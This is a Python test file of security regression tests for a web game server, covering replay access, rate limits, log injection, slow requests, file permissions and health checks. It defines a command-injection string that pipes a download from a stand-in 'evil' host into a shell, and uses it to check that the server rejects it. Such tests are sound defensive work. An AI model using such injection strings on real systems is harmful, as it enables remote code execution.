"""Doors that were found open, each walked through as its finder did."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import socket
import stat
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import asyncpg
import httpx
import pytest

from herna.kernel.errors import BadRecord
from herna.kernel.record import read
from herna.web.guard.headers import headers
from herna.web.guard.readers import Reader
from herna.web.pages.chart import Chart, chart
from herna.web.pages.errors import plain
from herna.web.pages.newtable import HUES, seat_rows
from herna.web.store.models import Visitor
from herna.web.store.store import Store
from web.guests import Guest, Inn, apart

EVIL = "'; curl evil|sh; echo '"


def finished(guest: Guest) -> str:
    """Return a table whose game is over."""
    table = guest.new_table(seat1="bot", level1="random", seat2="none", seat3="none")
    while codes := guest.wait(table):
        guest.answer(table, codes[-1])
    return table


def test_who_does_not_want_to_be_watched_is_not_shown_by_the_replay(inn: Inn) -> None:
    stranger, hidden = inn.guest(), inn.guest()
    answer = hidden.post("/play/harbours", {"name": "Jana"})
    table = str(answer.url.path).removeprefix("/t/")
    for who in ("?as=public", ""):
        assert stranger.get(f"/t/{table}/replay{who}").status_code == 403
        assert stranger.get(f"/t/{table}/replay/parts{who}").status_code == 403
    assert hidden.get(f"/t/{table}/replay?as=public").status_code == 200


def test_playing_at_once_is_within_the_limit_on_new_tables(tmp_path: Path) -> None:
    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}", tables_per_hour=3).open()
    try:
        guest = inn.guest()
        assert [guest.post("/play/harbours").status_code for _try in range(4)] == [200, 200, 200, 429]
    finally:
        inn.close()


def test_a_salt_is_hexadecimal_and_no_command(inn: Inn) -> None:
    guest = inn.guest()
    record = json.loads(guest.get(f"/t/{finished(guest)}/record").text)
    record["salt"] = EVIL
    with pytest.raises(BadRecord, match="hexadecimal"):
        read(json.dumps(record))
    sent = {"record": ("r.json", json.dumps(record), "application/json")}
    refused = guest.client.post("/upload", data={"_csrf_token": guest.token()}, files=sent)
    assert refused.status_code == 400


def test_a_salt_from_before_is_not_shown_as_a_command(inn: Inn) -> None:
    guest = inn.guest()
    table = finished(guest)
    assert "sha256sum" in guest.get(f"/t/{table}/replay").text

    async def spoil() -> None:
        store = Store(str(inn.house.store.url))
        async with store.begin() as connection:
            await connection.exec_driver_sql("update tables set salt = ? where id = ?", (EVIL, table))
        await store.close()

    apart(spoil())
    page = guest.get(f"/t/{table}/replay").text
    assert "sha256sum" not in page and "<pre" not in page


def test_a_colour_of_many_digits_is_no_colour(guest: Guest) -> None:
    for hue in ("000", "000" + "9" * 4400, "٣"):
        assert guest.client.get("/new", params={"game": "harbours", "hue0": hue}).status_code == 200
        assert seat_rows("harbours", {"hue0": hue})[0].hue < HUES


def test_no_name_of_a_seat_is_longer_than_the_database_keeps(inn: Inn) -> None:
    guest = inn.guest()
    table = guest.new_table(seat1="here", seat2="none", seat3="none", name0="x" * 40)

    async def names() -> list[str]:
        store = Store(str(inn.house.store.url))
        _table, seats = await store.table(table)
        await store.close()
        return [seat.name for seat in seats]

    assert [len(name) <= 40 for name in apart(names())] == [True, True]


def test_deep_nesting_is_refused_and_logs_are_one_line(inn: Inn, caplog: pytest.LogCaptureFixture) -> None:
    guest = inn.guest()
    body = b"[" * 100_000
    with caplog.at_level(logging.ERROR):
        answer = guest.client.post(
            "/api/tables/x%0aFAKE/answers", content=body, headers={"Content-Type": "application/json"}
        )
    assert answer.status_code == 400
    assert not any("\n" in record.getMessage() for record in caplog.records)
    assert plain("/api/x\nERROR forged/join/secret") == "/api/x%0AERROR%20forged"


def test_a_slow_second_request_is_cut(inn: Inn, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Reader, "slowest", 0.5)
    with socket.create_connection(("127.0.0.1", inn.port), timeout=20) as wire:
        wire.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
        assert wire.recv(65536).startswith(b"HTTP/1.1 200")
        cut = False
        for _letter in range(200):
            try:
                wire.sendall(b"G")
                time.sleep(0.05)
            except OSError:
                cut = True
                break
        assert cut


def test_the_database_is_for_its_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "herna.db"
    path.touch(0o644)

    async def used() -> None:
        store = Store(f"sqlite:///{path}")
        await store.open()
        await store.add_visitor(Visitor("a" * 32, "Jana"), "token")
        for each in tmp_path.iterdir():
            assert stat.S_IMODE(each.stat().st_mode) == 0o600, each
        await store.close()

    apart(used())


def test_no_reply_to_a_program_is_kept_by_anybody(inn: Inn) -> None:
    guest = inn.guest()
    table = guest.new_table(seat1="bot", level1="random", seat2="none", seat3="none")
    for path in ("/api/games", f"/api/tables/{table}"):
        assert guest.get(path).headers["cache-control"] == "no-store"


def test_over_https_browsers_are_told_never_to_come_otherwise(tmp_path: Path) -> None:
    assert "Strict-Transport-Security" not in headers(False)
    plain = Inn(
        f"sqlite:///{tmp_path / 'plain.db'}"
    ).open()  # another house in the same process, without https
    assert "strict-transport-security" not in plain.guest().get("/").headers
    plain.close()
    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}", secure=True).open()
    try:
        for path in ("/", "/nowhere", "/api/games"):
            assert "max-age=" in inn.guest().get(path).headers["strict-transport-security"]
    finally:
        inn.close()


def test_health_notices_a_database_that_cannot_be_written(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}").open()
    try:
        guest = inn.guest()
        assert guest.get("/health").status_code == 200

        async def fail() -> None:
            from sqlite3 import OperationalError as Full

            from sqlalchemy.exc import OperationalError

            raise OperationalError("PRAGMA", {}, Full("database or disk is full"))

        inn.house.store.__dict__["writable"] = fail
        with caplog.at_level(logging.ERROR):
            assert guest.get("/health").status_code == 503
        assert "database or disk is full" in caplog.text
    finally:
        inn.close()


def test_health_does_not_wait_for_a_frozen_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("herna.web.app.SLOWEST_DATABASE", 0.2)
    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}").open()
    try:

        async def frozen() -> None:
            await asyncio.sleep(60)

        inn.house.store.__dict__["writable"] = frozen
        answer = httpx.get(f"{inn.url}/health", timeout=20)
        assert answer.status_code == 503 and "does not answer" in answer.text
    finally:
        inn.close()


def test_while_postgresql_starts_people_are_asked_to_come_again(tmp_path: Path) -> None:
    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}").open()
    try:
        guest = inn.guest()
        guest.post("/manners", {"name": "Jana"})

        async def starting(_token: str) -> None:
            raise asyncpg.CannotConnectNowError("the database system is starting up")

        inn.house.store.__dict__["visitor"] = starting
        answer = guest.get("/")
        assert answer.status_code == 503 and answer.headers["retry-after"]
        token = {"Authorization": "Bearer x"}
        assert httpx.get(f"{inn.url}/api/me", headers=token).status_code == 503
    finally:
        inn.close()


def test_a_link_and_a_leaver_leave_no_older_link_open(inn: Inn) -> None:
    host, friend = inn.guest(), inn.guest()
    table = host.new_table(seat1="open", seat2="none", seat3="none")
    friend.post(links(host, table)[0], {"name": "Petr"})
    friend.post(f"/t/{table}/seats/1/link")
    host.post(f"/t/{table}/seats/1/link")
    shown = links(host, table) + links(friend, table)
    friend.post(f"/t/{table}/leave")
    for link in {*shown, *links(host, table), *links(friend, table)}:
        works = inn.guest().get(link).status_code == 200
        assert works == (link in {*links(host, table), *links(friend, table)})


def links(guest: Guest, table: str) -> list[str]:
    """Return the invitations that a page shows."""
    return re.findall(r"/join/[\w-]+", guest.get(f"/t/{table}").text)


def test_looks_at_replays_are_limited(tmp_path: Path) -> None:
    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}", reads_per_minute=3).open()
    try:
        guest = inn.guest()
        table = guest.new_table(seat1="bot", level1="random", seat2="none", seat3="none")
        found = [guest.get(f"/t/{table}/replay").status_code for _look in range(4)]
        assert found == [200, 200, 200, 429]
    finally:
        inn.close()


def test_a_replay_is_computed_once_and_aside(inn: Inn, monkeypatch: pytest.MonkeyPatch) -> None:
    guest = inn.guest()
    table = finished(guest)
    drawn: list[tuple[str, list[list[int]]]] = []

    def watched(scores: list[list[int]], at: int) -> Chart:
        drawn.append((threading.current_thread().name, scores))
        return chart(scores, at)

    monkeypatch.setattr("herna.web.pages.replay.chart", watched)
    with ThreadPoolExecutor(4) as pool:
        pages = list(pool.map(lambda at: inn.guest().get(f"/t/{table}/replay?at={at}"), range(4)))
    assert [page.status_code for page in pages] == [200] * 4
    assert inn.thread.name not in {thread for thread, _scores in drawn}
    assert len({id(scores) for _thread, scores in drawn}) == 1
